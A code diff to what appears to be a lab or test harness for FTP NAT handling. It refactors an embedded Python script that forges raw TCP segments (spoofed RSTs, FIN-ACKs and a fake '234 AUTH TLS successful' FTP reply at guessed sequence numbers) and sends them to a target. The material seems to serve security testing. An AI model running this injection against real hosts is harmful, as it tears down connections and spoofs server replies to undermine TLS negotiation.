@@ -28,40 +28,22 @@ ftp.quit()
 /// sequence and acknowledgement numbers: `argv[4]` resets, as many FIN-ACKs, and as many pairs of
 /// a lone LF followed by a `234` at the next sequence number.
 const FORGE: &str = r#"
-import random, socket, struct, sys
+import random, socket, sys
+from ftpnat_lab import ACK, FIN, PSH, RST, forged_tcp
 src, dst, dport, count = sys.argv[1], sys.argv[2], int(sys.argv[3]), int(sys.argv[4])
-FIN, RST, PSH, ACK = 1, 4, 8, 16
-
-def checksum(data):
-    if len(data) % 2:
-        data += b'\0'
-    total = sum(struct.unpack('!%dH' % (len(data) // 2), data))
-    while total >> 16:
-        total = (total & 0xffff) + (total >> 16)
-    return ~total & 0xffff
-
-def segment(seq, ack, flags, payload=b''):
-    s, d = socket.inet_aton(src), socket.inet_aton(dst)
-    tcp = struct.pack('!HHIIBBHHH', 21, dport, seq, ack, 5 << 4, flags, 502, 0, 0) + payload
-    pseudo = s + d + struct.pack('!BBH', 0, 6, len(tcp))
-    tcp = tcp[:16] + struct.pack('!H', checksum(pseudo + tcp)) + tcp[18:]
-    ip = struct.pack('!BBHHHBBH4s4s', 0x45, 0, 20 + len(tcp), random.getrandbits(16), 0, 64, 6,
-                     0, s, d)
-    ip = ip[:10] + struct.pack('!H', checksum(ip)) + ip[12:]
-    return ip + tcp
-
 raw = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
 sent = 0
 for _ in range(count):
     seq, ack = random.getrandbits(32), random.getrandbits(32)
-    for packet in (
-        segment(seq, 0, RST),
-        segment(seq, ack, RST | ACK),
-        segment(seq, ack, FIN | ACK),
-        segment(seq, ack, PSH | ACK, b'\n'),
-        segment((seq + 1) & 0xffffffff, ack, PSH | ACK, b'234 AUTH TLS successful\r\n'),
+    for flags, at, payload in (
+        (RST, seq, b''),
+        (RST | ACK, seq, b''),
+        (FIN | ACK, seq, b''),
+        (PSH | ACK, seq, b'\n'),
+        (PSH | ACK, (seq + 1) & 0xffffffff, b'234 AUTH TLS successful\r\n'),
     ):
-        raw.sendto(packet, (dst, 0))
+        raw.sendto(forged_tcp(src, 21, dst, dport, at, ack if flags & ACK else 0, flags, payload),
+                   (dst, 0))
         sent += 1
 print('sent', sent, flush=True)
 "#;
